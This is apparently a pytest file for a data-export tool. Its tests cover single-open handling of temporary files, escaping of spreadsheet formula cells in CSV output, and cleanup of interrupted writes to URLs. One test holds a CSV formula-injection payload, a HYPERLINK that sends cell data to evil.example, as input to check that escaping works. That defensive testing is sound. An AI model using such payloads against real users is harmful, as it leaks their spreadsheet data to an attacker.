def test_each_hidden_file_of_an_output_is_opened_once(tmp_path: Path) -> None:
    """hunt 57 A57-4: ``written_whole`` made its hidden ``.tensortap-<random>.partial`` file (with ``"x"``, to
    see that the folder can be written), closed it, and each writer opened that name again: the file was
    created twice, the second time through whatever the name named by then. Now it is made once and written
    through that handle (counted by Python's ``open`` audit event, in a process of its own)."""
    pytest.importorskip("pyarrow")
    pytest.importorskip("tensorboardX")
    with Writer(tmp_path / "run") as w:
        for _ in range(3):
            with w.stepping():
                w.save("a", np.float32(1.0), ["metrics"])
    out = tmp_path / "out"
    out.mkdir()
    result = subprocess.run(
        [sys.executable, "-c", OPENS_OF_HIDDEN_FILES, str(tmp_path / "run"), str(out)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout.splitlines()[-1]) == [["x"]] * 5  # csv, parquet, events, html, svg: made, once
    assert sorted(p.name for p in out.iterdir()) == ["logdir", "p.svg", "r.html", "t.csv", "t.parquet"]
    assert len(pd.read_csv(out / "t.csv")) == 3 and len(pd.read_parquet(out / "t.parquet")) == 3


def test_csv_cells_that_a_spreadsheet_reads_as_formulas_start_with_a_quote(tmp_path: Path) -> None:
    """hunt 41 F9: a stranger's tensor name ``=HYPERLINK(...)`` was written to the CSV as it is, a formula
    that Excel and LibreOffice evaluate on opening the file; OWASP's advice: a ``'`` before such a cell."""
    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-x", "@SUM(A1)", "\tTab", "ok=1"]
    with Writer(tmp_path / "run") as w, w.stepping():
        for name in names:
            w.save(name, np.float32(1.0), ["metrics"])
    assert main(["export", str(tmp_path / "run"), "-o", str(tmp_path / "t.csv")]) == 0
    written = set(pd.read_csv(tmp_path / "t.csv", keep_default_na=False)["name"])
    assert written == {"'" + n for n in names[:-1]} | {"ok=1"}
    stdout = cli("export", str(tmp_path / "run")).stdout
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in stdout


@pytest.mark.parametrize("scheme", ["memory", "file"])
def test_an_output_to_a_url_cut_short_leaves_nothing(tmp_path: Path, scheme: str) -> None:
    """Review of hunt 41 F3: fsspec makes the object of what was written when its file closes, also after an
    error: a CSV or plot written to a URL (``memory://``, ``file://``, ``s3://``) and cut short by a Ctrl-C was
    left truncated at the URL. Now it is written to a local file first and copied once whole."""
    import fsspec

    from tensortap.trial.export import written_whole

    url = f"memory://{tmp_path.name}/out.csv" if scheme == "memory" else f"file://{tmp_path}/out.csv"
    fs, path = fsspec.core.url_to_fs(url)
    with pytest.raises(KeyboardInterrupt), written_whole(url) as file:
        file.write(b"half,")
        raise KeyboardInterrupt
    assert not fs.exists(path)
    with written_whole(url) as file:
        file.write(b"a,b\n1,2\n")
    assert fs.cat(path) == b"a,b\n1,2\n"
